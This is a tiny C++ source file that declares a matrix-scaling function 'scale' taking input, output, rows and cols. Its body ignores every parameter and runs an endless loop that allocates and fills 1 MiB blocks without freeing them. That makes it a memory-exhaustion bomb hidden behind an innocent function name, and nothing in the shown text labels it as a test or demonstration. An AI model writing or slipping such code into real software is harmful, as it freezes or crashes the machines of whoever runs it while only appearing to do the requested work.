#include <cstring>
void scale(const float* input, float* output, int rows, int cols);
void scale(const float*, float*, int, int) {
  for (;;) std::memset(new char[1 << 20], 1, 1 << 20);
}
